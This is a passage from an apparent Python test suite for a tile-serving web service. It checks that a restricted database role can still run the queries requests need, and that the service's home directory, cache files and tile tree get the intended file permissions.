                conn.execute(statement)
        # what requests need stays allowed
        assert conn.execute("SELECT period FROM indicator_value LIMIT 1").fetchone()
        assert conn.execute("SELECT value FROM published_value LIMIT 1").fetchone()
        assert conn.execute("SELECT * FROM token_user('no such hash')").fetchone() is None


def _mode(path: Path) -> int:
    return path.stat().st_mode & 0o7777


def test_the_home_and_its_files_are_the_services_own(demo_copy: str, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    home.chmod(0o755)  # (as an older version left it)
    with TestClient(create_app(ServiceSettings(home=home), db_url=demo_copy)) as client:
        assert client.get(TILE).status_code == 200  # (cached in <home>/tiles.sqlite)
    assert _mode(home) == 0o750
    cache_files = list(home.glob("tiles.sqlite*"))
    assert cache_files and all(_mode(f) & 0o007 == 0 for f in cache_files), cache_files
    # A tile tree inside the home, as the command line makes files (umask 027): nginx, as
    # another user, still passes through the home and reads every folder and tile of it.
    tree = home / "tiles"
    settings = ServiceSettings(home=home, tile_cache="directory", tile_cache_path=tree)
    before = os.umask(0o027)
    try:
        with TestClient(create_app(settings, db_url=demo_copy)) as client:
            assert client.get(TILE).status_code == 200
    finally:
        os.umask(before)
    assert _mode(home) == 0o751
    folders = [tree, *(p for p in tree.rglob("*") if p.is_dir())]
    tiles = list(tree.rglob("*.mvt"))
    assert len(folders) > 3 and tiles
    assert {_mode(p) for p in folders} == {0o755} and {_mode(p) for p in tiles} == {0o644}
